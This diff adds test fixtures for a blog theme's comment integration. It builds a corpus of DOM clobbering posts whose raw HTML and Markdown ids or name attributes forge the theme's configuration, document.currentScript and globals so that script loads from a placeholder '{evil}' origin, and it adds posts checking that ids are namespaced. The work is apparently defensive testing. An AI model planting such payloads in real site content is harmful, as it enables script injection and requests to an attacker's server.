@@ -91,3 +91,119 @@ def write_corpus(content: Path) -> list[HostilePost]:
             f"Title: {post.title}\n{header}\n{post.body}", encoding="utf-8"
         )
     return POSTS
+
+
+# DOM clobbering: content that names elements after what the theme's scripts
+# read. Each post is one class of payload; `{evil}` is the origin of a server
+# that records what it is asked for and serves script that sets __pwned.
+FORGED_CONFIG = (
+    '{"provider":"isso","mode":"eager","remember":true,"counts":true,'
+    '"storageKey":"commons.discussion.isso","adapter":true,"countUrl":"{evil}/count"}'
+)
+# Settings of a permissive site: its maintainer lets editors write name=
+# attributes and inputs. Names are namespaced all the same.
+PERMISSIVE_BODY_HTML = {
+    "policy": "sanitize",
+    "extra_tags": ["input"],
+    "extra_attributes": {"img": ["name"], "a": ["name"], "input": ["name", "form"]},
+}
+# The adapter script a forged `document.currentScript` would point at.
+EVIL_ADAPTER = "window.__pwned = 'adapter';\n"
+
+
+@dataclass(frozen=True)
+class ClobberPost:
+    slug: str
+    summary: str
+    body: str
+
+    def text(self, evil: str) -> str:
+        fields = {"Title": f"Clobber {self.slug}", "Date": "2024-03-01 10:00"}
+        fields |= {"Slug": self.slug, "Category": "Community", "Summary": self.summary}
+        header = "".join(f"{key}: {value}\n" for key, value in fields.items())
+        return (header + "\n" + self.body).replace("{evil}", evil)
+
+
+CLOBBER_POSTS = [
+    # A raw element with the id of the theme's configuration block: eager
+    # loading, counts from another origin, on the post and (summary) on listings.
+    ClobberPost(
+        "clobber-config-html",
+        f'<div id="discussion-config">{FORGED_CONFIG}</div>',
+        f'<div id="discussion-config">{FORGED_CONFIG}</div>\n\nWhat do you think?\n',
+    ),
+    # The same with Markdown alone: attr_list's `{: #id }`.
+    ClobberPost(
+        "clobber-config-markdown",
+        "A summary.",
+        f"`{FORGED_CONFIG}`\n{{: #discussion-config }}\n\nWhat do you think?\n",
+    ),
+    # name= shadows document's own properties: a forged currentScript makes the
+    # adapter load from another origin; forms' inputs shadow document fields.
+    ClobberPost(
+        "clobber-names",
+        '<img name="currentScript" src="{evil}/evil/discussion.js" alt="x">',
+        '<img name="currentScript" src="{evil}/evil/discussion.js" alt="x">\n'
+        '<img name="head" src="{evil}/pixel.png" alt="x">\n'
+        '<input name="documentElement" form="discussion-config">\n'
+        '<a name="querySelector">anchor</a>\n\nWhat do you think?\n',
+    ),
+    # The ids of the comment widget's own containers and of the theme's section.
+    ClobberPost(
+        "clobber-widget",
+        '<div id="isso-thread">summary</div>',
+        '<div id="isso-thread">Not the thread.</div>\n<div id="isso-root"></div>\n\n'
+        "What do you think?\n",
+    ),
+    ClobberPost(
+        "clobber-section",
+        "A summary.",
+        '<div id="discussion">Not the discussion.</div>\n\n'
+        "## Heading\n{: #discussion-heading }\n\nWhat do you think?\n",
+    ),
+    # A global the scripts guard on, shadowed by an element.
+    ClobberPost(
+        "clobber-global",
+        "A summary.",  # on a listing, it would hide what the others do
+        '<a id="commonsDiscussion" href="#">x</a> <a id="remark_config" href="#">y</a>\n\n'
+        "What do you think?\n",
+    ),
+]
+
+
+def write_clobber_corpus(content: Path, evil: str) -> list[ClobberPost]:
+    for post in CLOBBER_POSTS:
+        (content / f"{post.slug}.md").write_text(post.text(evil), encoding="utf-8")
+    return CLOBBER_POSTS
+
+
+# Ids that content sets, in every way it can: attr_list, footnotes, raw HTML
+# (ids, names, id references), in the body and in the summary; and same-post
+# links to them, which must keep working once the ids are namespaced.
+IDS_POST = """Title: Ids in a post
+Date: 2024-04-01 10:00
+Slug: ids-in-a-post
+Category: Community
+Summary: A summary with <span id="summary-id">an id</span> and [a link](#summary-id).
+
+See [the plan](#plan), [the box](#box), [the table](#table) and a note[^1].
+[Join the discussion](#discussion) below.
+
+## The plan {: #plan }
+
+<div id="box">A box</div>
+
+<table id="table"><tr><th id="head">A</th></tr><tr><td headers="head">1</td></tr></table>
+
+[^1]: The note.
+"""
+IDS_POST_SLUG = "ids-in-a-post"
+# Another post linking to the first one's ids, and to its discussion.
+LINKING_POST = f"""Title: Linking to ids
+Date: 2024-04-02 10:00
+Slug: linking-to-ids
+Category: Community
+
+See [its plan]({{filename}}{IDS_POST_SLUG}.md#plan), [its box]({{filename}}/{IDS_POST_SLUG}.md#box)
+and <a href="{{filename}}{IDS_POST_SLUG}.md#discussion">its discussion</a>.
+"""
